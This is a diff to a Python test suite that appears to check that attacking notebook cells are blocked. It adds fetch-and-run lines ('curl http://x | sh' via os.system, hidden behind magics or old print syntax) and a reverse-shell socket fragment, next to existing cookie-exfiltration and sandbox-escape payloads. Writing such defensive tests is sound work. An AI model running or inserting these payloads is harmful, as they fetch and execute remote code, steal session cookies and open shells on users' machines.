@@ -32,6 +32,9 @@ def examined(*sources: str, html: str = "", kind: str = "text/html") -> Examinat
         "%matplotlib inline\nimport subprocess\nsubprocess.run('curl http://x | sh', shell=True)",
         "%%javascript\nfetch('http://x/' + document.cookie)",
         "().__class__.__base__.__subclasses__()",
+        "%time __import__('os').system('curl http://x | sh')",
+        "print 'x'\nimport os\nos.system('curl http://x | sh')",
+        "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)",
     ],
 )
 def test_a_cell_that_attacks_is_blocked(source: str) -> None:
